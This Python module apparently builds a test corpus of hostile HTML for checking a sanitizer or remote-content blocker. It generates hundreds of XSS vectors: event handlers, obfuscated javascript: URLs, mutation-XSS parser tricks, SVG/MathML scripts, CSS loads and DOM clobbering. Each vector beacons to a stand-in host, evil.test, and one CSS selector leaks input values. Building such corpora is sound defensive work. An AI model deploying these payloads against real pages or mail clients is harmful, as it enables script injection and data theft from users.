"""HTML that means harm, grown from families: what runs scripts, loads, posts, redirects or navigates.

Every vector calls `hit(N)` or asks the host `xN.evil.test`, N being its number, so that whoever sees either knows
which one got through.
"""

import base64
from collections.abc import Iterator
from dataclasses import dataclass
from html import escape
from itertools import zip_longest

TOP = "evil.test"
"""What all hosts of the vectors lie under."""


@dataclass(frozen=True, slots=True)
class Vector:
    """One piece of HTML. `family` says what it tries."""

    number: int
    family: str
    html: str

    @property
    def host(self) -> str:
        """The host that it asks."""
        return f"x{self.number}.{TOP}"


def vectors(most: int | None = None) -> list[Vector]:
    """All of them, or `most`, evenly from every family."""
    columns = [[(name, html) for html in dict.fromkeys(make())] for name, make in _FAMILIES.items()]
    mixed = [each for row in zip_longest(*columns) for each in row if each is not None]
    return [
        Vector(number, family, _filled(html, number)) for number, (family, html) in enumerate(mixed[:most], 1)
    ]


def _filled(html: str, number: int) -> str:
    whole = base64.b64encode(f"<script>hit({number})</script>".encode()).decode("ascii")
    return html.replace("B64", whole).replace("JS", f"hit({number})").replace("HOST", f"x{number}.{TOP}")


def _handlers() -> Iterator[str]:
    """Event handlers that fire by themselves, or as soon as somebody points or types."""
    for tag, event in (
        ("img src=x:", "error"),
        ("img src=data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///ywAAAAAAQABAAACAUwAOw==", "load"),
        ("body", "load"),
        ("body", "pageshow"),
        ("body", "hashchange"),
        ("svg", "load"),
        ("input autofocus", "focus"),
        ("textarea autofocus", "focus"),
        ("select autofocus", "focus"),
        ("button autofocus", "focus"),
        ("div tabindex=1 autofocus", "focus"),
        ("details open", "toggle"),
        ("video src=x:", "error"),
        ("audio src=x:", "error"),
        ("object data=x:", "error"),
        ("embed src=x:", "error"),
        ("iframe src=about:blank", "load"),
        ("link rel=stylesheet href=data:text/css,a", "load"),
        ("style", "load"),
        ("script src=x:", "error"),
        ("marquee", "start"),
        ("form", "submit"),
        ("p", "click"),
        ("b", "mouseover"),
        ("td", "pointerenter"),
        ("a href=https://acme.example", "auxclick"),
        ("font color=red", "copy"),
        ("table", "contextmenu"),
        ("blockquote", "wheel"),
        ("li", "dragstart"),
        ("center", "keydown"),
        ("h1 contenteditable", "beforeinput"),
        ("p style=animation-name:x", "animationstart"),
        ("hr style=transition:1s", "transitionend"),
        ("p style=content-visibility:auto", "contentvisibilityautostatechange"),
        ("p hidden=until-found", "beforematch"),
        ("div popover id=p", "beforetoggle"),
    ):
        yield f'<{tag} on{event}="JS">x</{tag.split()[0]}>'
    yield "<img src=x: onerror=JS>x"
    yield "<img src=x: ONERROR = 'JS' x>"
    yield "<img/src=x:/onerror=JS>x"
    yield "<img\fsrc=x:\nonerror\r=\tJS\n>x"
    yield '<img src="x:"onerror="JS">x'
    yield "<img src=x: onerror=&#74;&#83;>".replace("&#74;&#83;", "&#x68;it(0)//&quot;+JS")
    yield "<img src=x: onerror=`${JS}`>x"
    yield "<image src=x: onerror=JS>x"
    yield "<p onclick='JS' onclick=''>x</p>"
    yield "<b/onpointerrawupdate=JS//x>x</b>"


_SCRIPT_URLS = (
    "javascript:JS",
    "JaVaScRiPt:JS",
    "java\tscript:JS",
    "java\nscript:JS",
    "java\rscript:JS",
    "\x01javascript:JS",
    "\x1fjavascript:JS",
    "  javascript:JS",
    "javascript&colon;JS",
    "&#106;avascript:JS",
    "&#x6A&#x61vascript:JS",
    "&#0000106avascript:JS",
    "javascript&#58JS",
    "java&Tab;script&NewLine;:JS",
    "javascript://%0aJS",
    "javascript://acme.example/%0d%0aJS",
    "javascript:/*https://acme.example/*/JS",
    "javascript:'<script>JS</script>'",
    "vbscript:JS",
    "livescript:JS",
    "data:text/html,<script>JS</script>",
    "data:text/html;base64,B64",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='JS'/>",
    "data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>JS</x:script>",
    "blob:https://acme.example/JS",
    "filesystem:https://acme.example/JS",
    "view-source:javascript:JS",
    "jar:javascript:JS!/",
    "mhtml:javascript:JS",
    "feed:javascript:JS",
    "\ufeffjavascript:JS",
    "\u200bjavascript:JS",
    "java\u0000script:JS",
    "javas\u00adcript:JS",
    "ｊavascript:JS",
    "javascript：JS",
)


def _links() -> Iterator[str]:
    """Script URLs, written as senders of spam write them, behind what a person may click."""
    for url in _SCRIPT_URLS:
        quoted = url.replace('"', "&quot;")
        yield f'<a href="{quoted}">x</a>'
    yield from (
        '<a xlink:href="javascript:JS">x</a>',
        "<a href=javascript:JS>x",
        "<a href='https://acme.example' href='javascript:JS'>x</a>",
        '<a title="a" href = "javascript:JS" target=_self>x</a>',
        '<area href="javascript:JS" shape=default><map name=m><area href="javascript:JS"></map><img usemap=#m>x',
        '<form action="javascript:JS"><button>x</button></form>',
        '<form><button formaction="javascript:JS">x</button></form>',
        '<form id=f></form><button form=f formaction="javascript:JS">x</button>',
        '<form><input type=submit formaction="javascript:JS" value=x></form>',
        '<form><input type=image src=x: formaction="javascript:JS"></form>x',
        '<iframe src="javascript:JS"></iframe>x',
        '<frameset><frame src="javascript:JS"></frameset>x',
        '<object data="javascript:JS"></object>x',
        '<embed src="javascript:JS">x',
        '<img src="javascript:JS">x',
        '<img lowsrc="javascript:JS" dynsrc="javascript:JS">x',
        '<body background="javascript:JS">x',
        '<table background="javascript:JS"><tr><td background="javascript:JS">x</table>',
        '<blockquote cite="javascript:JS">x</blockquote>',
        '<input type=button onclick="JS" value=x>',
        '<isindex action="javascript:JS" type=submit value=x>',
        '<base href="javascript:JS//"><a href="#">x</a>',
        '<link rel=import href="javascript:JS">x',
        '<link rel=stylesheet href="javascript:JS">x',
        '<a href="#" ping="https://HOST/ping">x</a>',
        '<a href="//HOST/x" target=_top>x</a>'.replace("//HOST", "\\/\\/javascript:JS"),
        '<a href="https:javascript:JS">x</a>',
        '<a href="mailto:a@acme.example" onclick=JS>x</a>',
    )


def _scripts() -> Iterator[str]:
    """Script elements, whole, broken, nested and in other namespaces."""
    yield "<script>JS</script>x"
    yield "<SCRIPT\n>JS</SCRIPT\t>x"
    yield "<script/x>JS</script/x>x"
    yield '<script src="https://HOST/s.js"></script>x'
    yield "<script src=//HOST/s.js></script>x"
    yield "<script src=data:,JS></script>x"
    yield "<script type=module>JS</script>x"
    yield "<script type=module src=https://HOST/m.js></script>x"
    yield '<script type=importmap>{"imports":{"a":"https://HOST/a"}}</script>x'
    yield "<script>JS//x"
    yield "<scr<script>ipt>JS</scr</script>ipt>x"
    yield "<<script>JS//<</script>x"
    yield "<script\0>JS</script>x"
    yield "<scr\0ipt>JS</script>x"
    yield "<\0script>JS</script>x"
    yield "<script><!--\nJS\n--></script>x"
    yield "<!--><script>JS</script>-->x"
    yield "<!---><script>JS</script>-->x"
    yield "<!-- --!><script>JS</script>-->x"
    yield "<!--[if IE]><script>JS</script><![endif]-->x"
    yield "<![CDATA[<script>JS</script>]]>x"
    yield "<?xml <script>JS</script>?>x"
    yield "<!DOCTYPE x [<!ENTITY e '<script>JS</script>'>]>&e;x"
    yield "</p/x><script>JS</script>x"
    yield "<svg><script>JS</script></svg>x"
    yield "<svg><script href=data:,JS /></svg>x"
    yield "<svg><script xlink:href=data:,JS></script></svg>x"
    yield "<svg><script>&#74;&#83;;JS</script></svg>x".replace("&#74;&#83;;", "&#32;")
    yield "<math><script>JS</script></math>x"
    yield "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>JS</x:script>x"
    yield "&lt;script&gt;JS&lt;/script&gt;x"
    yield "+ADw-script+AD4-JS+ADw-/script+AD4-x"
    yield "\uff1cscript\uff1eJS\uff1c/script\uff1ex"
    yield "%3Cscript%3EJS%3C/script%3Ex"
    yield "\u2028<script>JS</script>\u2029x"
    yield "<template><script>JS</script></template>x"
    yield (
        "<template shadowrootmode=open><img src=x: onerror=JS></template>x".replace(
            "<template", "<div><template"
        )
        + "</div>"
    )
    yield "<noscript><script>JS</script></noscript>x"


def _foreign() -> Iterator[str]:
    """SVG and MathML: their own handlers, links and animations."""
    for inner in (
        "<animate onbegin=JS attributeName=x dur=1s>",
        "<set onbegin=JS attributeName=x>",
        "<animate attributeName=href values=javascript:JS />",
        "<a><animate attributeName=href values=javascript:JS /><text y=20>x</text></a>",
        "<a xlink:href=javascript:JS><text y=20>x</text></a>",
        "<a href=javascript:JS><rect width=99 height=99 /></a>",
        "<use href=data:image/svg+xml,x#a />",
        '<use href="https://HOST/u.svg#a" />',
        '<image href="https://HOST/i.png" width=9 height=9 />',
        '<image xlink:href="https://HOST/i.png" width=9 height=9 />',
        "<image href=x: onerror=JS />",
        '<feImage href="https://HOST/f.png" />',
        "<foreignObject><img src=x: onerror=JS></foreignObject>",
        "<foreignObject><iframe src=javascript:JS></iframe></foreignObject>",
        "<desc><img src=x: onerror=JS></desc>",
        "<title><img src=x: onerror=JS></title>",
        "<style>@import 'https://HOST/s.css';</style>",
        "<style>*{background:url(https://HOST/s.png)}</style>",
        '<rect style="fill:url(https://HOST/f.svg#a)" width=9 height=9 />',
        '<text font-family=x style="filter:url(https://HOST/f.svg#a)">x</text>',
        "<handler type=text/javascript xmlns:ev=x ev:event=load>JS</handler>",
        "<discard onbegin=JS />",
        "<script xlink:href=https://HOST/s.js />",
        "<video><source onerror=JS></video>",
    ):
        yield f"<svg>{inner}</svg>x"
    for inner in (
        "<mi xlink:href=javascript:JS>x</mi>",
        "<mi href=javascript:JS>x</mi>",
        "<maction actiontype=statusline xlink:href=javascript:JS>x<mtext>y</mtext></maction>",
        "<mtext><img src=x: onerror=JS></mtext>",
        "<annotation-xml encoding=text/html><img src=x: onerror=JS></annotation-xml>",
        "<annotation-xml encoding=application/xhtml+xml><svg onload=JS></svg></annotation-xml>",
        "<mglyph src=https://HOST/g.png></mglyph>",
        "<mstyle onmouseover=JS><mi>x</mi></mstyle>",
        "<semantics><annotation-xml><script>JS</script></annotation-xml></semantics>",
    ):
        yield f"<math>{inner}</math>x"
    yield "<svg/onload=JS>x"
    yield "<svg onload=JS//x"
    yield "<svg xmlns='http://www.w3.org/2000/svg' onload='JS'/>x"
    yield "<svg><g onload=JS></g></svg>x"
    yield "<svg><p><img src=x: onerror=JS></svg>x"


def _mutations() -> Iterator[str]:
    """Markup that a parser reads one way, and another one when what was written out is read again."""
    harm = "<img src=x: onerror=JS>"
    hidden = escape(harm)
    yield from (
        f'<noscript><p title="</noscript>{harm}">x</p>',
        f'<noframes><p title="</noframes>{harm}">x</p>',
        f'<noembed><p title="</noembed>{harm}">x</p>',
        f'<xmp><p title="</xmp>{harm}">x</p>',
        f'<iframe><p title="</iframe>{harm}">x</p>',
        f'<title><p title="</title>{harm}">x</p>',
        f'<textarea><p title="</textarea>{harm}">x</p>',
        f'<style><p title="</style>{harm}">x</p>',
        f'<script><p title="</script>{harm}">x</p>',
        f'<plaintext><p title="</plaintext>{harm}">x',
        f'<svg><style><p title="</style>{harm}">x</p></svg>',
        f'<math><style><p title="</style>{harm}">x</p></math>',
        f'<svg><title><style><p title="</style>{harm}"></title></svg>x',
        f'<svg><desc><noscript><p title="</noscript>{harm}"></desc></svg>x',
        f'<math><mtext><table><mglyph><style><p title="</style>{harm}">x',
        f'<math><mtext><table><mglyph><style><!--</style><p title="--&gt;{hidden}">x',
        f'<math><mtext><table><mglyph><svg><mtext><style><p title="</style>{harm}">x',
        f'<math><mi><form></form><form><mglyph><style></math><p title="</style>{harm}">x',
        f'<form><math><mtext></form><form><mglyph><style></math><p title="</style>{harm}">x',
        f'<form><div></form><form><svg><style><p title="</style>{harm}">x',
        f'<table><tr><td><svg><tr><style><p title="</style>{harm}">x',
        f"<table><caption><svg><style></caption></table><p title='</style>{harm}'>x",
        f'<svg></p><style><p title="</style>{harm}">x',
        f'<svg></br><style><p title="</style>{harm}">x',
        f'<math></p><style><!--</style><p title="--&gt;{hidden}">x',
        f'<svg><a><svg><style><p id="</style>{harm}"></a></svg>x',
        f'<select><style><p title="</style>{harm}"></select>x',
        f'<select><template><style><p title="</style>{harm}"></template></select>x',
        f'<option><style></option></select><p title="</style>{harm}">x',
        f'<template><style></template><p title="</style>{harm}">x',
        f'<p title="{hidden}"><style></p title="</style>{harm}">x',
        f"<listing>{hidden}</listing>x",
        f"<xmp>{hidden}</xmp>x",
        f"<textarea>{hidden}</textarea>x",
        f"<title>{hidden}</title>x",
        f"<style>{hidden}</style>x",
        f"<noscript>{hidden}</noscript>x",
        f'<a title="{hidden}" href="https://acme.example">x</a>',
        f"<img alt='`{hidden}`' title=`{harm}`>x",
        f"<!-- a --!> {harm} -->x",
        f"<!-- a <!-- --> {harm} -->x",
        f"<p title='a\0\"'>{harm}</p>",
        f"<p title=\"'><!--\" id='-->{harm}'>x",
        f"<![CDATA[><!--]]>{harm}-->x",
        f"<svg><![CDATA[</svg>{harm}]]>x",
        f"<svg><![CDATA[><p title=']]>{harm}'>x</svg>",
        f'<b <p title="{harm}">x',
        f"<a href='x' <b>{harm}</b>>x</a>",
        f"<table><a href='https://acme.example'>{harm}<tr><td>x",
        f"<a><table><a>{harm}</table></a>x",
        f"<button><p><button>{harm}</button>x",
        f"<ruby><rtc><rt><svg><rtc>{harm}</ruby>x",
        "<b>" * 140 + harm + "x",
        "<b>" * 600 + harm + "x",
        "<table><tr><td>" * 60 + f'<svg><style><p title="</style>{harm}">x',
        "<font>" * 20 + f"<p><table><font>{harm}" + "</font>" * 20,
        "<p " + "a=b " * 3000 + f"title='>{harm}'>x</p>",
        f"<p title='{'x' * 70_000}'>{harm}</p>",
        f"x{'&' * 20_000}{harm}",
        f"{'<' * 5_000}{harm}x",
    )


def _loads() -> Iterator[str]:
    """What asks another host without a script: pictures, media, styles, hints, frames."""
    for html in (
        '<img src="https://HOST/p.gif" width=1 height=1>',
        '<img src="http://HOST/p.gif">',
        '<img src="//HOST/p.gif">',
        '<img src="\\\\HOST\\p.gif">',
        '<img src="/\\HOST/p.gif">',
        '<img src=" https://HOST/p.gif ">',
        '<img src="ht\ntps://HOST/p.gif">',
        '<img src="https:&#x2f;&#x2f;HOST/p.gif">',
        '<img src="cid:a" srcset="https://HOST/p.gif 1x, https://HOST/q.gif 2x">',
        '<img srcset="//HOST/p.gif">',
        '<img src="cid:https://HOST/p.gif">',
        '<img src="cid://HOST/p.gif">',
        '<img src="cid:/../../HOST">',
        '<img src="CID:a" loading=lazy longdesc="https://HOST/d">',
        '<img alt=x src="https://HOST/p.gif" src="cid:a">',
        '<picture><source srcset="https://HOST/p.webp"><img src="cid:a"></picture>',
        '<image src="https://HOST/p.gif">',
        '<input type=image src="https://HOST/p.gif">',
        '<video src="https://HOST/v.mp4" autoplay></video>',
        '<video poster="https://HOST/p.png"></video>',
        '<video autoplay><source src="https://HOST/v.mp4"><track default src="https://HOST/t.vtt"></video>',
        '<audio src="https://HOST/a.mp3" autoplay></audio>',
        '<bgsound src="https://HOST/a.wav">',
        '<embed src="https://HOST/e.swf">',
        '<object data="https://HOST/o.pdf"><param name=src value="https://HOST/q"></object>',
        '<applet code=A archive="https://HOST/a.jar"></applet>',
        '<iframe src="https://HOST/f.html"></iframe>',
        '<iframe src="//HOST"></iframe>',
        '<iframe srcdoc="&lt;img src=https://HOST/p.gif&gt;"></iframe>',
        '<iframe srcdoc="<script>JS</script>"></iframe>',
        '<iframe srcdoc="&amp;lt;script&amp;gt;JS&amp;lt;/script&amp;gt;"></iframe>',
        '<iframe sandbox=allow-scripts srcdoc="<script>JS</script>"></iframe>',
        '<frameset cols=100%><frame src="https://HOST/f.html"></frameset>',
        '<portal src="https://HOST/p"></portal>',
        '<fencedframe src="https://HOST/p"></fencedframe>',
        '<body background="https://HOST/b.gif">',
        '<table background="https://HOST/b.gif"><tr background="https://HOST/c.gif"><td>x</table>',
        '<table><tr><td background="//HOST/d.gif">x</table>',
        '<link rel=stylesheet href="https://HOST/s.css">',
        '<link rel=icon href="https://HOST/i.ico">',
        '<link rel=preload as=image href="https://HOST/p.png">',
        '<link rel=prefetch href="https://HOST/p.html">',
        '<link rel=modulepreload href="https://HOST/m.js">',
        '<link rel=preconnect href="https://HOST">',
        '<link rel=dns-prefetch href="//HOST">',
        '<link rel=prerender href="https://HOST/p.html">',
        '<link rel=manifest href="https://HOST/m.json">',
        '<meta http-equiv=refresh content="0;url=https://HOST/r">',
        '<meta http-equiv="refresh" content="0; javascript:JS">',
        '<meta http-equiv=Link content="<https://HOST/s.css>;rel=stylesheet">',
        '<meta http-equiv="set-cookie" content="a=b">',
        "<meta charset=utf-7>+ADw-img src=https://HOST/p.gif+AD4-",
        '<base href="https://HOST/"><img src="p.gif">',
        '<base href="https://HOST/"><a href="x">x</a>',
        '<html manifest="https://HOST/m.appcache">',
        '<head profile="https://HOST/p">',
        '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["https://HOST/s"]}]}</script>',
        '<form action="https://HOST/f" method=post><input name=a autofocus onfocus=JS><button>x</button></form>',
        '<form action="https://HOST/f"><input type=submit value=x id=go></form>',
        '<button formaction="https://HOST/f" form=g>x</button><form id=g></form>',
        '<a href="https://acme.example" ping="https://HOST/ping">x</a>',
        '<details open><summary>x</summary><img src="https://HOST/p.gif"></details>',
        '<noscript><img src="https://HOST/p.gif"></noscript>',
        '<template><img src="https://HOST/p.gif"></template>',
        '<ins cite="https://HOST/c"><del cite="https://HOST/c">x</del></ins>',
        '<v:image src="https://HOST/v.gif" xmlns:v="urn:schemas-microsoft-com:vml"></v:image>',
        '<!--[if mso]><img src="https://HOST/p.gif"><![endif]-->',
        '<![if !mso]><img src="https://HOST/p.gif"><![endif]>',
        '<xml src="https://HOST/x.xml"></xml>',
        '<?xml-stylesheet href="https://HOST/s.css"?>',
    ):
        yield html + "x"


def _styles() -> Iterator[str]:
    """Style sheets and style attributes that load, run or cover the page."""
    for rule in (
        "background:url(https://HOST/b.gif)",
        "background:url('//HOST/b.gif')",
        "background:u\\72l(https://HOST/b.gif)",
        "background:url(https://HOST/b.gif)/**/",
        "background:/**/url(&quot;https://HOST/b.gif&quot;)",
        "background-image:image-set('https://HOST/b.gif' 1x)",
        "background-image:-webkit-image-set(url(https://HOST/b.gif) 1x)",
        "background:-webkit-cross-fade(url(https://HOST/b.gif),url(https://HOST/c.gif),50%)",
        "list-style:url(https://HOST/l.gif);display:list-item",
        "list-style-image:url(https://HOST/l.gif);display:list-item",
        "border-image:url(https://HOST/b.gif) 1;border:1px solid",
        "cursor:url(https://HOST/c.cur),auto",
        "content:url(https://HOST/c.gif)",
        "mask:url(https://HOST/m.svg#a)",
        "-webkit-mask-image:url(https://HOST/m.png)",
        "filter:url(https://HOST/f.svg#a)",
        "clip-path:url(https://HOST/c.svg#a)",
        "shape-outside:url(https://HOST/s.png);float:left",
        "offset-path:url(https://HOST/o.svg#a)",
        "--x:url(https://HOST/v.gif);background:var(--x)",
        "behavior:url(https://HOST/x.htc)",
        "-moz-binding:url(https://HOST/x.xml#a)",
        "width:expression(JS)",
        "width:exp/**/ression(JS)",
        "background:url(javascript:JS)",
        "background:url(data:image/svg+xml,&lt;svg onload=JS&gt;)",
        "position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://HOST/o.gif)",
    ):
        yield f'<div style="{rule}">x</div>'
    for sheet in (
        "@import 'https://HOST/s.css';",
        "@import url(//HOST/s.css) screen;",
        "@\\69mport url(https://HOST/s.css);",
        "body{background:url(https://HOST/b.gif)}",
        "*{background:url(https://HOST/b.gif)}",
        "@font-face{font-family:f;src:url(https://HOST/f.woff2)}*{font-family:f}",
        "p::before{content:url(https://HOST/c.gif)}",
        "</style ><script>JS</script>",
        "<!--@import 'https://HOST/s.css';-->",
        "@namespace x url(https://HOST/n);*{behavior:url(https://HOST/x.htc)}",
        "input[value^=a]{background:url(https://HOST/leak)}",
    ):
        yield f"<style>{sheet}</style><p>x</p><input value=abc>"
    yield "<svg><style>*{background:url(https://HOST/b.gif)}</style></svg><p>x</p>"
    yield '<font face="x\';background:url(https://HOST/b.gif)">x</font>'
    yield '<font color="red;background:url(https://HOST/b.gif)">x</font>'
    yield '<table width="1;background:url(https://HOST/b.gif)"><tr><td>x</table>'


def _names() -> Iterator[str]:
    """What takes the place of names that a page relies on."""
    yield '<a id=location name=location href="javascript:JS">x</a>'
    yield "<form id=document><input name=cookie></form><img name=getElementById src=x: onerror=JS>x"
    yield '<img name=hit id=hit src="https://HOST/n.gif">x'
    yield '<p class="admin danger" id=app role=alert contenteditable draggable onfocusin=JS>x</p>'
    yield "<button popovertarget=p popovertargetaction=show>x</button><div popover id=p onbeforetoggle=JS>y</div>"
    yield "<button command=show-modal commandfor=d>x</button><dialog id=d onbeforetoggle=JS open>y</dialog>"
    yield '<a href="https://acme.example" target=hit rel=opener onclick=JS>x</a>'
    yield "<slot onslotchange=JS></slot><x-y onclick=JS>x</x-y>"
    yield '<p is="x-y" accesskey=a onclick=JS nonce=1>x</p>'
    yield "<input type=hidden accesskey=x onclick=JS>x"
    yield "<label for=q onclick=JS>x</label><input id=q type=checkbox onchange=JS>"
    yield "<keygen autofocus onfocus=JS>x"


_FAMILIES = {
    "handler": _handlers,
    "link": _links,
    "script": _scripts,
    "foreign": _foreign,
    "mutation": _mutations,
    "load": _loads,
    "style": _styles,
    "name": _names,
}
